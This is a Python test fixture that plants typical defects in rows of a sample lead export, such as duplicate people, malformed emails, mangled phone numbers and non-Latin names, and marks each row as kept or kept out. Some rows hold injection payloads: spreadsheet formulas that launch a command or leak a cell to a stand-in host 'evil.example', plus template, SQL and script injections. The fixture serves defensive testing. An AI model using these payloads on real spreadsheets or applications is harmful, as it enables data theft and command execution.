"""The dirt of real exports, put into known rows of the sample, so that tests know what must become of each.

`DIRT` lists every soiled row with what becomes of it: kept (perhaps repaired), or kept out.
"""

from __future__ import annotations

from typing import Literal, NamedTuple

COLUMNS = (
    "First Name",
    "Last Name",
    "Title",
    "Company",
    "Email",
    "Phone",
    "Country",
    "Website",
    "Industry",
    "No. of Employees",
    "Annual Revenue",
    "Lead Source",
    "Description",
    "Event",
    "Rating note",
)

Fate = Literal["kept", "kept out"]


class Dirt(NamedTuple):
    """One soiled row. `row` counts data rows from 1; `cells` replace the invented ones."""

    row: int
    what: str
    fate: Fate
    cells: dict[str, str]
    copy_of: int | None = None
    """Begin from this other row instead: a duplicate."""


def _long_title() -> str:
    duties = (
        "finance",
        "treasury",
        "tax",
        "investor relations",
        "shared services",
        "procurement",
        "reporting",
    )
    return ("Director of " + ", ".join(f"{duty} and group-wide {duty} transformation" for duty in duties) * 2)[:300]


_WHOLE = {"First Name": "", "Last Name": ""}
DIRT = (
    Dirt(9, "the same address in capitals", "kept out", {"Email": "{EMAIL}"}, copy_of=3),
    Dirt(18, "free-mail address", "kept", {"Email": "{first}.{last}@gmail.example"}),
    Dirt(
        27,
        "the same Gmail box with dots and a tag",
        "kept out",
        {"Email": "{first}{last}+fair@gmail.example"},
        18,
    ),
    Dirt(
        36,
        "first and last name in the wrong columns, another address",
        "kept out",
        {"First Name": "{Last}", "Last Name": "{First}", "Email": "{last}@{domain}"},
        copy_of=12,
    ),
    Dirt(
        10,
        "an umlaut that other rows spell out",
        "kept",
        {"First Name": "Jörg", "Last Name": "Grünewald", "Email": "joerg.gruenewald@{domain}"},
    ),
    Dirt(
        53,
        "the same person as Gruenewald",
        "kept out",
        {"First Name": "Joerg", "Last Name": "Gruenewald", "Company": "{Company} AG", "Email": "jg@{domain}"},
        10,
    ),
    Dirt(58, "no last name", "kept out", {"Last Name": ""}),
    Dirt(63, "no name at all", "kept out", _WHOLE),
    Dirt(69, "no address", "kept out", {"Email": ""}),
    Dirt(75, "a placeholder for the address", "kept out", {"Email": "n/a"}),
    Dirt(81, "an address without @", "kept out", {"Email": "{first}.{last}(at){domain}"}),
    Dirt(87, "two signs @", "kept out", {"Email": "{first}@{last}@{domain}"}),
    Dirt(93, "no company", "kept out", {"Company": "  "}),
    Dirt(99, "a row with too few columns", "kept out", {"#columns": "6"}),
    Dirt(105, "an unquoted comma in the company", "kept out", {"#columns": "16"}),
    Dirt(111, "a role address", "kept", {"Email": "info@{domain}"}),
    Dirt(117, "a role address", "kept", {"Email": "accounts.payable@{domain}"}),
    Dirt(121, "a role address", "kept", {"Email": "procurement@{domain}"}),
    Dirt(126, "free-mail address", "kept", {"Email": "{first}{last}88@outlook.example"}),
    Dirt(132, "free-mail address", "kept", {"Email": "{last}.{first}@gmx.example"}),
    Dirt(138, "throw-away address", "kept", {"Email": "{first}@mailinator.example"}),
    Dirt(144, "words for a phone number", "kept", {"Phone": "ask reception, ext. 4"}),
    Dirt(150, "a phone number that is too short", "kept", {"Phone": "12345"}),
    Dirt(156, "a phone number ruined by a spreadsheet", "kept", {"Phone": "4.92022E+11"}),
    Dirt(
        162,
        "a Thai name and title",
        "kept",
        {
            "First Name": "สมหญิง",
            "Last Name": "ทองประเสริฐ",
            "Title": "ผู้อำนวยการฝ่ายการเงิน",
            "Email": "somying.t@{domain}",
        },
    ),
    Dirt(
        168,
        "a Thai name",
        "kept",
        {"First Name": "ณัฐพล", "Last Name": "ศรีสุวรรณ", "Email": "nattapol.s@{domain}"},
    ),
    Dirt(
        174,
        "a Chinese name and title",
        "kept",
        {"First Name": "晓梅", "Last Name": "欧阳", "Title": "财务总监", "Email": "xiaomei.ouyang@{domain}"},
    ),
    Dirt(
        180,
        "a Chinese name",
        "kept",
        {"First Name": "建国", "Last Name": "林", "Email": "jianguo.lin@{domain}"},
    ),
    Dirt(
        186,
        "an Arabic name",
        "kept",
        {"First Name": "ليلى", "Last Name": "الحسيني", "Email": "layla.h@{domain}"},
    ),
    Dirt(
        192,
        "an Arabic name",
        "kept",
        {"First Name": "طارق", "Last Name": "المنصوري", "Email": "tariq.m@{domain}"},
    ),
    Dirt(
        198,
        "emoji in a name and a remark",
        "kept",
        {"First Name": "{First} 🚀", "Description": "Very keen 🔥👩‍💼 call soon"},
    ),
    Dirt(
        204,
        "a formula for a name",
        "kept out",
        {"Last Name": '=HYPERLINK("http://evil.example/?leak="&A1,"{Last}")'},
    ),
    Dirt(210, "a formula for a company", "kept out", {"Company": "=cmd|' /C calc'!A0"}),
    Dirt(214, "a formula for a first name", "kept out", {"First Name": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    Dirt(
        219,
        "a formula in the remarks",
        "kept",
        {"Description": '=HYPERLINK("http://evil.example","click for the contract")'},
    ),
    Dirt(225, "a template in a name", "kept", {"First Name": "{{{{7*7}}}}"}),
    Dirt(
        231,
        "a template in the company and title",
        "kept",
        {"Title": "{{{{ config.items() }}}}", "Company": "{Company} {{% for x in y %}}"},
    ),
    Dirt(237, "a query in a name", "kept", {"Last Name": "{Last}' OR Name LIKE '%"}),
    Dirt(
        243,
        "HTML in a name and a title",
        "kept",
        {"First Name": "<b>{First}</b>", "Title": "<script>alert(1)</script> CFO"},
    ),
    Dirt(249, "a title of 300 characters", "kept", {"Title": _long_title()}),
    Dirt(255, "capitals and surplus spaces", "kept", {"First Name": "  {FIRST} ", "Last Name": "{LAST}  "}),
    Dirt(261, "a country nobody knows", "kept", {"Country": "EMEA (see notes)"}),
    Dirt(267, "control characters", "kept out", {"Company": "{Company}\x07\x1b[2J"}),
    Dirt(
        273,
        "remarks of several lines",
        "kept",
        {"Description": 'Call notes:\n- budget is there\n- decides in March, "if legal agrees"'},
    ),
    Dirt(
        279,
        "the same person, initial added",
        "kept out",
        {"First Name": "{First} J.", "Email": "{first}.j.{last}@{domain}"},
        copy_of=240,
    ),
    Dirt(285, "address with a name around it", "kept", {"Email": "{First} {Last} <{email}>"}),
    Dirt(
        291,
        "a range for employees, euros for revenue",
        "kept",
        {"No. of Employees": "1,000-5,000", "Annual Revenue": "€ 2.3 bn"},
    ),
    Dirt(297, "a fraud's phone formula", "kept", {"Phone": "=1+2"}),
)


def soil(clean: list[list[str]]) -> list[list[str]]:
    """The rows with the dirt put in; the number of rows stays."""
    rows = [list(row) for row in clean]
    for dirt in DIRT:
        origin = dict(zip(COLUMNS, rows[(dirt.copy_of or dirt.row) - 1], strict=True))
        cells = origin | {name: _filled(text, origin) for name, text in dirt.cells.items()}
        rows[dirt.row - 1] = _with_columns([cells[column] for column in COLUMNS], cells.get("#columns"))
    return rows


def _filled(text: str, origin: dict[str, str]) -> str:
    first, last, email = origin["First Name"], origin["Last Name"], origin["Email"]
    local, _, domain = email.partition("@")
    words = local.split(".")
    return text.format(
        First=first,
        Last=last,
        FIRST=first.upper(),
        LAST=last.upper(),
        Company=origin["Company"],
        email=email,
        EMAIL=email.upper(),
        first=words[0],
        last=words[-1],
        domain=domain,
    )


def _with_columns(row: list[str], columns: str | None) -> list[str]:
    """Fewer columns cut the end off; more come from a comma that splits the company in two."""
    if columns is None or int(columns) == len(row):
        return row
    if int(columns) < len(row):
        return row[: int(columns)]
    at = COLUMNS.index("Company")
    return [*row[:at], row[at], " Inc.", *row[at + 1 :]]
